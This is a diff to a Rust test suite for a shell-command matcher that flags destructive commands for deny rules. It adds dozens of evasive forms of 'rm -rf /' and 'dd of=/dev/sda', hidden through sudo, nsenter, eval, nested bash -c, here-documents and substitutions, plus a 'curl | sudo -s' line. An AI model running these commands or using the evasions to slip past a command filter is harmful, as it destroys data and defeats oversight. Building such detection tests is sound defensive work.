@@ -144,6 +144,20 @@ const RM_RF_MATCH: &[&str] = &[
     "busybox rm -rf /",
     "strace -f rm -rf /",
     "runuser -u root -- rm -rf /",
+    "nsenter -t 1 -m -u -i -n -p rm -rf /",
+    "nsenter --target 1 --mount rm -rf /",
+    "nsenter -t1 -m/proc/1/ns/mnt rm -rf /",
+    "unshare -m rm -rf /",
+    "unshare --map-root-user --propagation private rm -rf /",
+    "unshare -R /mnt rm -rf /",
+    "systemd-run --pty rm -rf /",
+    "systemd-run -p Nice=5 --unit x -t rm -rf /",
+    "run0 rm -rf /",
+    "run0 -u root --chdir / rm -rf /",
+    "setpriv --reuid=0 --regid=0 --init-groups rm -rf /",
+    "setpriv --reuid 0 rm -rf /",
+    "prlimit --nofile=1024 rm -rf /",
+    "prlimit -n1024 rm -rf /",
     "flock /tmp/l rm -rf /",
     "watch rm -rf /",
     "find / -exec rm -rf {} +",
@@ -219,6 +233,68 @@ const RM_RF_MATCH: &[&str] = &[
     "cat <<EOF\n$(rm -rf /)\nEOF",
     "ls\nrm -rf /",
     "ls \\\n; rm -rf /",
+    // More evasions.
+    "rm\t-rf\t/",
+    "rm -rf / # bye",
+    "rm -rf /;",
+    "rm -$'r'f /",
+    "rm -rf $'\\x2f'",
+    "r$'m' -rf /",
+    "\"r\"'m' -rf /",
+    "rm \"-r\" \"-f\" /",
+    "rm -I -rf /",
+    "rm -rf --no-preserve-root /",
+    "rm -rf \"${DIR:?}/\"*",
+    r"\sudo \rm -rf /",
+    "sudo -u#0 rm -rf /",
+    "sudo --user=root rm -rf /",
+    "nice --adjustment=5 rm -rf /",
+    "timeout -k 5 10 rm -rf /",
+    "env -C / rm -rf x",
+    "env --chdir=/ rm -rf x",
+    "/usr/bin/env rm -rf /",
+    "sudo env rm -rf /",
+    "nohup -- rm -rf /",
+    "exec -c rm -rf /",
+    "command -- rm -rf /",
+    "builtin eval 'rm -rf /'",
+    "command eval 'rm -rf /'",
+    "eval -- 'rm -rf /'",
+    "xargs -a list rm -rf",
+    "xargs -n1 rm -rf < list",
+    "find . -execdir rm -rf {} +",
+    "busybox sh -c 'rm -rf /'",
+    "ssh -t host 'sudo rm -rf /'",
+    "ssh host -- rm -rf /",
+    "ssh -o StrictHostKeyChecking=no host rm -rf /",
+    "sh -c 'rm -rf \"$1\"' _ /",
+    "bash -c -- 'rm -rf /'",
+    "bash -xc 'rm -rf /'",
+    "bash -o errexit -c 'rm -rf /'",
+    "bash --norc -c 'rm -rf /'",
+    "echo rm -rf / | bash -s",
+    "bash /dev/stdin <<< 'rm -rf /'",
+    "bash -s <<< 'rm -rf /'",
+    "exec bash -c 'rm -rf /'",
+    "trap -- 'rm -rf /' EXIT",
+    "export PROMPT_COMMAND='rm -rf /'",
+    "alias rm='rm -i'; rm -rf /",
+    "f(){ rm -rf \"$@\"; }; f /",
+    "rm -rf / 2>&1 | tee log",
+    "exec 3>&1; rm -rf /",
+    "$(rm -rf /)",
+    "echo ${X:=$(rm -rf /)}",
+    "echo ${X/$(rm -rf /)/}",
+    "echo $[$(rm -rf /)]",
+    "echo x#$(rm -rf /)",
+    "a[$(rm -rf /)]=1",
+    "let \"x=$(rm -rf /)\"",
+    ": $((a[$(rm -rf /)]))",
+    "printf -v 'a[$(rm -rf /)]' x",
+    "cat <<< $(rm -rf /)",
+    "time ! rm -rf /",
+    "if [ -d x ]; then rm -rf x; fi",
+    "[ -d x ] && rm -rf x",
 ];
 
 /// Benign twins of `rm -rf`: none of them runs `rm -rf`.
@@ -317,6 +393,10 @@ const RM_RF_UNKNOWN: &[&str] = &[
     "rm -rf /)",
     "echo $(rm -rf /",
     "if true; then rm -rf /",
+    // Bash runs a process substitution in command position; the grammar refuses it.
+    "<(rm -rf /)",
+    // `select` is not in the grammar.
+    "select x in a; do rm -rf /; done",
 ];
 
 #[test]
@@ -345,6 +425,176 @@ fn without_patterns_nothing_is_unknown() {
     }
 }
 
+/// Lines where a grammar that disagrees with bash about where a quote, a substitution or a
+/// command ends would hide (or invent) a command.
+#[test]
+fn quoting_boundaries_agree_with_bash() {
+    expect(
+        RM_RF,
+        Kind::Match,
+        &[
+            r"echo $'\''; rm -rf / #'",
+            r"echo '\'; rm -rf / #'",
+            "echo ${x:-'}'}; rm -rf /",
+            "echo \"${x:-\"}\"}\"; rm -rf /",
+            "echo $(echo ')'); rm -rf /",
+            "echo $(echo \\)); rm -rf /",
+            "echo `echo \\`echo\\``; rm -rf /",
+            "echo {a,b}; rm -rf /",
+            "x=$'a\\nb'; rm -rf /",
+            "echo \"$(echo \"$(rm -rf /)\")\"",
+            "echo \"`rm -rf /`\"",
+            "(( x = $(rm -rf /) ))",
+            "echo $((1)); rm -rf /",
+            "echo $(( (1) )); rm -rf /",
+            "echo if then fi; rm -rf /",
+            "{ rm -rf /; } 2>/dev/null",
+            "rm -rf / <<EOF\nx\nEOF",
+            "cat <<A; bash <<B\nx\nA\nrm -rf /\nB",
+            "echo $(bash <<EOF\nrm -rf /\nEOF\n)",
+            "echo \"a\\\"b\"; rm -rf /",
+            "echo a\\;b; rm -rf /",
+            "echo a#b; rm -rf /",
+            "echo $(( 1 )) $( rm -rf / )",
+        ],
+    );
+    expect(
+        RM_RF,
+        Kind::NoMatch,
+        &[
+            "echo \"\\\"; rm -rf / #\"",
+            r"echo \$\(rm -rf /\)",
+            r"echo \$'(rm -rf /)'",
+            "echo '$(rm -rf /)'",
+            "echo \"\\`rm -rf /\\`\"",
+            "echo \\`rm -rf /\\`",
+            "echo $'; rm -rf /'",
+            "echo \"; rm -rf /\"",
+            "echo a\\; rm -rf /",
+            "cat <<'EOF'\n$(rm -rf /)\nEOF",
+            "cat <<\\EOF\n`rm -rf /`\nEOF",
+        ],
+    );
+    // Regression: bash reads `((` as arithmetic only when both `(` are adjacent and the inner
+    // `)` is directly followed by `)`; the grammar took these subshells for arithmetic.
+    expect(
+        RM_RF,
+        Kind::Match,
+        &[
+            "((rm -rf /) )",
+            "( (rm -rf /))",
+            "((rm -rf /) ) && ((1+2))",
+            "((a) || (rm -rf /))",
+            "((1+2)); rm -rf /",
+            "(( (1) )) && rm -rf /",
+            "echo $((rm -rf /) )",
+            "echo $( (rm -rf /))",
+            "for ((i=0; i<1; i++)); do rm -rf /; done",
+            "! (rm -rf /)",
+        ],
+    );
+    expect(
+        RM_RF,
+        Kind::NoMatch,
+        &["((rm -rf /))", "(( x = (1) + (2) ))", "echo $((rm - rf))"],
+    );
+    let m = matcher(RM_RF);
+    for line in [
+        // The word parser ends `$(` at the first `)`: refused, not misread.
+        "echo $(case x in x) echo;; esac); rm -rf /",
+        // A negated subshell without `extglob`, a glob as command name with it.
+        "!(rm -rf /)",
+    ] {
+        assert_ne!(kind(&m.check(line)), Kind::NoMatch, "{line:?}");
+    }
+}
+
+/// Strings that bash evaluates later as code, or names that are made to run another program.
+#[test]
+fn delayed_evaluation() {
+    expect(
+        RM_RF,
+        Kind::Match,
+        &[
+            // Arithmetic evaluates array subscripts in variable values.
+            "x='a[$(rm -rf /)]'; echo $((x))",
+            "export x='a[$(rm -rf /)]'",
+            "mapfile -C 'rm -rf /' -c 1 a < f",
+            "readarray -t -C 'rm -rf' a < f",
+        ],
+    );
+    expect(
+        RM_RF,
+        Kind::Unknown,
+        &[
+            // `@P` expands the value like a prompt string, substitutions included.
+            "echo \"${x@P}\"",
+            "hash -p /bin/rm x",
+            "enable -f /tmp/x.so rm",
+        ],
+    );
+    expect(
+        RM_RF,
+        Kind::NoMatch,
+        &[
+            "x='rm -rf /'",
+            "echo \"${x@Q}\"",
+            "hash -r",
+            "mapfile -t a < f",
+        ],
+    );
+}
+
+/// A wrapper or `su` without a command starts a shell that reads standard input.
+#[test]
+fn shells_started_by_wrappers_read_standard_input() {
+    expect(
+        RM_RF,
+        Kind::Match,
+        &[
+            "echo 'rm -rf /' | sudo -s",
+            "sudo -i <<< 'rm -rf /'",
+            "sudo -u root -s <<EOF\nrm -rf /\nEOF",
+            "echo 'rm -rf /' | sudo su",
+            "su - root <<< 'rm -rf /'",
+            "doas -s <<< 'rm -rf /'",
+            "pkexec <<< 'rm -rf /'",
+            "echo 'rm -rf /' | bash5.2",
+            "bash-static -c 'rm -rf /'",
+            "echo 'rm -rf /' | ssh host bash",
+            "echo 'rm -rf /' | nsenter -t 1 -a",
+            "unshare -r <<< 'rm -rf /'",
+            "run0 <<< 'rm -rf /'",
+            "systemd-run --shell <<< 'rm -rf /'",
+            "chroot /mnt <<< 'rm -rf /'",
+            "newgrp wheel <<< 'rm -rf /'",
+        ],
+    );
+    expect(
+        RM_RF,
+        Kind::Unknown,
+        &[
+            "curl -s http://h/x | sudo -s",
+            "curl -s http://h/x | sudo su -",
+        ],
+    );
+    expect(
+        RM_RF,
+        Kind::NoMatch,
+        &[
+            "sudo -s",
+            "sudo su -",
+            "su",
+            "echo hi | sudo -s",
+            "sudo -l",
+            "nsenter -t 1 -a ls",
+            "prlimit -p 42 --nofile=1",
+            "setpriv -d",
+            "systemd-run --on-calendar daily /usr/bin/backup",
+        ],
+    );
+}
+
 // ---- dd of=/dev/* ------------------------------------------------------------------------
 
 const DD: &[&str] = &["dd of=/dev/*"];
@@ -369,6 +619,8 @@ fn dd_to_a_device() {
             "cat img | dd of=/dev/sdb",
             "/bin/dd of=/dev/sda",
             "bash -c 'dd if=x of=/dev/nvme0n1'",
+            // dd reads its operands after `--` too.
+            "dd -- of=/dev/sda",
         ],
     );
     expect(
@@ -382,8 +634,8 @@ fn dd_to_a_device() {
             "dd if=/dev/sda",
             "echo dd of=/dev/sda",
             "ddrescue /dev/sda img",
-            "dd of=\"$HOME/x\" if=/dev/sda",
-            "dd -- of=/dev/sda",
+            "dd of=\"out.img$X\" if=/dev/sda",
+            "dd if=\"/dev/$X\" of=img",
         ],
     );
     expect(
@@ -400,6 +652,8 @@ fn dd_to_a_device() {
             // `$X` may be `../dev/sda`.
             "dd of=\"/tmp/$X\"",
             "dd of=/d*/sda",
+            // `$HOME` may be `/dev`.
+            "dd of=\"$HOME/x\" if=/dev/sda",
         ],
     );
 }
@@ -619,6 +873,107 @@ fn chmod_modes_compare_by_value() {
     );
 }
 
+// ---- paths that climb --------------------------------------------------------------------
+
+/// Regression: `rm -rf /tmp/../etc` matched `rm -rf /tmp/*` by its text, so a higher-priority
+/// `allow` rule with that pattern let it through. A path with `..` now compares by the path
+/// it names, and a computed tail (`/tmp/$X`) or a glob that may expand to `..` (`/tmp/.*`)
+/// may name any path.
+#[test]
+fn paths_compare_by_what_they_name() {
+    let tmp = &["rm -rf /tmp/*"];
+    expect(
+        tmp,
+        Kind::Match,
+        &["rm -rf /tmp/x", "rm -rf /tmp/a/../b", "rm -rf /tmp/*"],
+    );
+    expect(
+        tmp,
+        Kind::NoMatch,
+        &["rm -rf /tmp/../etc", "rm -rf /tmp/x/../..", "rm -rf /etc"],
+    );
+    expect(
+        tmp,
+        Kind::Unknown,
+        &["rm -rf \"/tmp/$X\"", "rm -rf /tmp/.*", "rm -rf /tmp/.?/etc"],
+    );
+    let root = &["rm -rf /"];
+    expect(
+        root,
+        Kind::Match,
+        &["rm -rf /tmp/..", "rm -rf //", "rm -rf /./", "rm -rf x /"],
+    );
+    expect(
+        root,
+        Kind::NoMatch,
+        &[
+            "rm -rf /tmp/*",
+            "rm -rf /tmp/x",
+            "rm -rf ..",
+            "rm -rf /tmp/x$",
+        ],
+    );
+    expect(
+        root,
+        Kind::Unknown,
+        &[
+            "rm -rf \"/tmp/$X\"",
+            "rm -rf /tmp/$X",
+            "rm -rf \"/var/lib/$APP\"/*",
+            "rm -rf /tmp/.*",
+            "rm -rf /*",
+            "rm -rf \"$DIR\"",
+        ],
+    );
+    // Known limit (module docs): a match is "some operand of some command", which is what a
+    // deny rule needs and what makes an outranking allow rule too broad.
+    expect(
+        tmp,
+        Kind::Match,
+        &["rm -rf /tmp/x /", "rm -rf /tmp/x; rm -rf /"],
+    );
+    // Where the computed tail cannot climb out of what the pattern accepts, it matches.
+    let under_root = &["rm -rf /*"];
+    expect(
+        under_root,
+        Kind::Match,
+        &["rm -rf \"/$X\"", "rm -rf \"/srv/$X\""],
+    );
+    expect(
+        &["dd of=*"],
+        Kind::Match,
+        &["dd of=\"$OUT\"", "dd \"of=$OUT\""],
+    );
+}
+
+#[test]
+fn partly_computed_code_strings() {
+    // A certain match in the known part of the string is reported...
+    expect(
+        RM_RF,
+        Kind::Match,
+        &[
+            "eval \"rm -rf $DIR\"",
+            "sh -c \"rm -rf $1\" _ /tmp/x",
+            "bash -c \"cd $D && rm -rf x\"",
+            "ssh host \"rm -rf $DIR\"",
+            "su -c \"rm -rf $X\"",
+        ],
+    );
+    // ...and anything else in a computed string is undecidable.
+    expect(
+        RM_RF,
+        Kind::Unknown,
+        &[
+            "eval \"rm -r $DIR\"",
+            "sh -c \"ls $X\"",
+            "eval \"$CMD -rf /\"",
+            "eval echo *",
+            "ssh host \"ls\" $X",
+        ],
+    );
+}
+
 // ---- verdict details ---------------------------------------------------------------------
 
 #[test]
@@ -633,7 +988,10 @@ fn a_match_names_the_pattern_and_the_command() {
         }
     );
     // A match elsewhere in the line wins over an undecidable part.
-    assert!(matches!(m.check("$X; poweroff"), Verdict::Match { id: 2, .. }));
+    assert!(matches!(
+        m.check("$X; poweroff"),
+        Verdict::Match { id: 2, .. }
+    ));
     let Verdict::Unknown { reason } = m.check("rm -r $X") else {
         panic!("not unknown");
     };
@@ -642,10 +1000,25 @@ fn a_match_names_the_pattern_and_the_command() {
 
 #[test]
 fn patterns_are_validated() {
-    for bad in ["", "   ", "rm 'x", "/bin/rm -rf", "rm -rf | sh", "rm $X", "rm --preserve-root=all"] {
+    for bad in [
+        "",
+        "   ",
+        "rm 'x",
+        "/bin/rm -rf",
+        "rm -rf | sh",
+        "rm $X",
+        "rm --preserve-root=all",
+    ] {
         assert!(ShellPattern::parse(bad).is_err(), "{bad:?}");
     }
-    for good in ["rm -rf", "rm -rf /", "mkfs*", "dd of=/dev/*", "rm -- -x", "find -delete"] {
+    for good in [
+        "rm -rf",
+        "rm -rf /",
+        "mkfs*",
+        "dd of=/dev/*",
+        "rm -- -x",
+        "find -delete",
+    ] {
         assert!(ShellPattern::parse(good).is_ok(), "{good:?}");
     }
 }
@@ -694,6 +1067,23 @@ fn deep_nesting_does_not_overflow() {
         format!("[[ {}a ]]", "! ".repeat(n)),
         format!("echo {}", "'".repeat(n)),
         format!("echo {}", "\\".repeat(n)),
+        format!("[[ {}a ]]", "a && ".repeat(n)),
+        format!("[[ {}a ]]", "a || ".repeat(n)),
+        format!("[[ {}a ]]", "-n a && ".repeat(n)),
+        format!("[[ x =~ {}a{} ]]", "(".repeat(n), ")".repeat(n)),
+        format!("case x in {}a) ;; esac", "a|".repeat(n)),
+        format!("a=({})", "x ".repeat(n)),
+        format!("{}rm -rf /", "x=1 ".repeat(n)),
+        format!("rm -rf {}", "<x ".repeat(n)),
+        format!("{}rm -rf /", "a && ".repeat(n)),
+        format!("{}rm -rf /", "a | ".repeat(n)),
+        format!("echo {}", "${a:-".repeat(n)),
+        format!("echo \"{}\"", "$(".repeat(n)),
+        format!("{}rm -rf /", "eval ".repeat(n)),
+        format!("{}rm -rf /", "bash -c ".repeat(n)),
+        format!("{}rm -rf /", "env -S ".repeat(n)),
+        format!("{}rm -rf /", "xargs ".repeat(n)),
+        format!("{}rm -rf /", "find -exec ".repeat(n)),
         "$(".repeat(n),
         "(".repeat(n),
         ")".repeat(n),
@@ -723,8 +1113,16 @@ fn nesting_at_the_limits_is_fast() {
         format!("{}rm -rf /{}", "$(".repeat(g), ")".repeat(g)),
         format!("{}rm -rf /{}", "\"$(".repeat(g), ")\"".repeat(g)),
         format!("{}rm -rf /{}", "if true; then ".repeat(g), "; fi".repeat(g)),
-        format!("{}rm -rf /{}", "while true; do ".repeat(g), "; done".repeat(g)),
-        format!("{}rm -rf /{}", "case x in x) ".repeat(g), ";; esac".repeat(g)),
+        format!(
+            "{}rm -rf /{}",
+            "while true; do ".repeat(g),
+            "; done".repeat(g)
+        ),
+        format!(
+            "{}rm -rf /{}",
+            "case x in x) ".repeat(g),
+            ";; esac".repeat(g)
+        ),
         format!("{}rm -rf /{}", "f() { ".repeat(g), "; }".repeat(g)),
         format!("{}rm -rf / {}", "! ".repeat(g), ""),
         format!("[[ {}a{} ]]", "( ".repeat(g), " )".repeat(g)),
@@ -749,6 +1147,36 @@ fn nesting_at_the_limits_is_fast() {
     }
 }
 
+/// Regression (fuzzing, `shell_rules`): brush-parser's tokenizer looped forever, allocating,
+/// on a here-document whose tag word is only `\r` or form feeds, at the end of the input.
+#[test]
+fn here_document_tags_of_carriage_returns_do_not_hang() {
+    let m = everything();
+    for line in [
+        "-\r-<<\r<\u{fffd}$c$(",
+        "cat <<\r",
+        "cat <<\r\r",
+        "cat << \r",
+        "cat <<-\u{c}",
+        "cat <<\u{b}",
+        "cat <<\r\nrm -rf /\n\r\n",
+        "echo $(cat <<\r)",
+        // The same text decoded from `$'...'` reaches the tokenizer through other paths.
+        r"env -S $'cat <<\r'",
+        r"bash -c $'cat <<\r'",
+        r"echo $(# $'\r' <<)",
+    ] {
+        assert_eq!(kind(&survives(&m, line)), Kind::Unknown, "{line:?}");
+    }
+    // Substitutions decoded from `$'...'` are counted like written ones.
+    let many = format!("env -S $'{}'", r"\x24\x28".repeat(3000));
+    assert_eq!(kind(&survives(&m, &many)), Kind::Unknown);
+    let many = format!("bash -c $'{}'", r"\x60".repeat(3000));
+    assert_eq!(kind(&survives(&m, &many)), Kind::Unknown);
+    // A carriage return without a here-document is an ordinary character.
+    expect(RM_RF, Kind::Match, &["rm -rf /\r"]);
+}
+
 #[test]
 fn one_megabyte_lines() {
     let m = everything();
@@ -760,32 +1188,49 @@ fn one_megabyte_lines() {
 
 #[test]
 fn nested_code_strings() {
-    // `bash -c $'...'` nested `depth` times around `rm -rf /`, quoting with ANSI-C strings so
-    // that the line grows linearly.
-    fn nest(depth: usize) -> String {
-        let mut code = "rm -rf /".to_owned();
-        for _ in 0..depth {
-            let escaped = code.replace('\\', "\\\\").replace('\'', "\\'");
-            code = format!("bash -c $'{escaped}'");
-        }
-        code
-    }
     let m = matcher(RM_RF);
-    for depth in 1..=MAX_NESTED_SCRIPTS {
-        assert_eq!(kind(&m.check(&nest(depth))), Kind::Match, "depth {depth}");
+    // `bash -c $'...'` nested `depth` times around `rm -rf /` (backslashes double per level).
+    let mut code = "rm -rf /".to_owned();
+    for depth in 1..=14 {
+        let escaped = code.replace('\\', "\\\\").replace('\'', "\\'");
+        code = format!("bash -c $'{escaped}'");
+        let want = if depth <= MAX_NESTED_SCRIPTS {
+            Kind::Match
+        } else {
+            Kind::Unknown
+        };
+        assert_eq!(kind(&m.check(&code)), want, "$'' depth {depth}");
     }
-    for depth in MAX_NESTED_SCRIPTS + 1..=40 {
-        assert_eq!(kind(&m.check(&nest(depth))), Kind::Unknown, "depth {depth}");
+    // With single quotes the line grows fourfold per level, past the length limit.
+    let mut code = "rm -rf /".to_owned();
+    for depth in 1..=9 {
+        code = format!("sh -c '{}'", code.replace('\'', "'\\''"));
+        assert_ne!(kind(&m.check(&code)), Kind::NoMatch, "'' depth {depth}");
     }
-    // The same with single quotes, where the line grows exponentially, and with `eval`.
-    for depth in 1..=12 {
-        let mut code = "rm -rf /".to_owned();
-        for _ in 0..depth {
-            code = format!("sh -c '{}'", code.replace('\'', "'\\''"));
+    // Double quotes inside single quotes, alternating.
+    let mut code = "rm -rf /".to_owned();
+    for depth in 1..=9 {
+        code = if depth % 2 == 1 {
+            format!(
+                "bash -c \"{}\"",
+                code.replace('\\', "\\\\").replace('"', "\\\"")
+            )
+        } else {
+            format!("sh -c '{}'", code.replace('\'', "'\\''"))
+        };
+        assert_ne!(kind(&m.check(&code)), Kind::NoMatch, "mixed depth {depth}");
+    }
+    // Chains that nest without quoting grow linearly: run them far past the limit.
+    for depth in (1..=MAX_NESTED_SCRIPTS + 2).chain([50, 300, 3000]) {
+        let want = if depth <= MAX_NESTED_SCRIPTS {
+            Kind::Match
+        } else {
+            Kind::Unknown
+        };
+        for prefix in ["eval ", "ssh h ", "sudo eval "] {
+            let line = format!("{}'rm -rf /'", prefix.repeat(depth));
+            assert_eq!(kind(&m.check(&line)), want, "{prefix}x{depth}");
         }
-        assert_ne!(kind(&m.check(&code)), Kind::NoMatch, "depth {depth}");
-        let eval = format!("{}'rm -rf /'", "eval ".repeat(depth));
-        assert_eq!(kind(&m.check(&eval)), Kind::Match, "eval depth {depth}");
     }
 }
 
@@ -812,19 +1257,115 @@ impl XorShift {
 #[test]
 fn random_shell_like_lines() {
     const TOKENS: &[&str] = &[
-        "rm", "-rf", "-r", "-f", "/", "dd", "of=/dev/sda", "mkfs.ext4", "shutdown", "reboot",
-        "chmod", "-R", "777", "sudo", "env", "-S", "xargs", "find", "-exec", "{}", ";", "+",
-        "bash", "sh", "-c", "eval", "su", "ssh", "h", "trap", "alias", "x=rm", "echo", "printf",
-        "systemctl", "init", "0", "6", "if", "then", "else", "fi", "for", "in", "do", "done",
-        "while", "case", "esac", "function", "f()", "{", "}", "(", ")", "((", "))", "[[", "]]",
-        "$(", "`", "${", "$((", "<(", ">(", "<<", "<<<", "<<-", "EOF", "|", "||", "&&", "&", ">",
-        "<", ">&", "2>", "'", "\"", "$'", "\\", "$X", "$@", "*", "?", "[", "]", "!", "#", "=",
-        "~", ",", "..", "\n", " ", "\t", "{a,b}", "@(", "!(", "+(", "^", "%", "\u{e9}", "\0",
+        "rm",
+        "-rf",
+        "-r",
+        "-f",
+        "/",
+        "dd",
+        "of=/dev/sda",
+        "mkfs.ext4",
+        "shutdown",
+        "reboot",
+        "chmod",
+        "-R",
+        "777",
+        "sudo",
+        "env",
+        "-S",
+        "xargs",
+        "find",
+        "-exec",
+        "{}",
+        ";",
+        "+",
+        "bash",
+        "sh",
+        "-c",
+        "eval",
+        "su",
+        "ssh",
+        "h",
+        "trap",
+        "alias",
+        "x=rm",
+        "echo",
+        "printf",
+        "systemctl",
+        "init",
+        "0",
+        "6",
+        "if",
+        "then",
+        "else",
+        "fi",
+        "for",
+        "in",
+        "do",
+        "done",
+        "while",
+        "case",
+        "esac",
+        "function",
+        "f()",
+        "{",
+        "}",
+        "(",
+        ")",
+        "((",
+        "))",
+        "[[",
+        "]]",
+        "$(",
+        "`",
+        "${",
+        "$((",
+        "<(",
+        ">(",
+        "<<",
+        "<<<",
+        "<<-",
+        "EOF",
+        "|",
+        "||",
+        "&&",
+        "&",
+        ">",
+        "<",
+        ">&",
+        "2>",
+        "'",
+        "\"",
+        "$'",
+        "\\",
+        "$X",
+        "$@",
+        "*",
+        "?",
+        "[",
+        "]",
+        "!",
+        "#",
+        "=",
+        "~",
+        ",",
+        "..",
+        "\n",
+        " ",
+        "\t",
+        "{a,b}",
+        "@(",
+        "!(",
+        "+(",
+        "^",
+        "%",
+        "\u{e9}",
+        "\0",
     ];
     const CHARS: &[&str] = &[
-        "a", "r", "m", "-", "f", "/", "$", "(", ")", "{", "}", "[", "]", "'", "\"", "\\", "`",
-        "|", "&", ";", "<", ">", "*", "?", "!", "#", "=", " ", "\n", "~", ",", ".", "0", "1",
-        "^", "%", "@", "+", ":",
+        "a", "r", "m", "-", "f", "/", "$", "(", ")", "{", "}", "[", "]", "'", "\"", "\\", "`", "|",
+        "&", ";", "<", ">", "*", "?", "!", "#", "=", " ", "\n", "~", ",", ".", "0", "1", "^", "%",
+        "@", "+", ":",
     ];
     let m = everything();
     let mut rng = XorShift(0x9e37_79b9_7f4a_7c15);
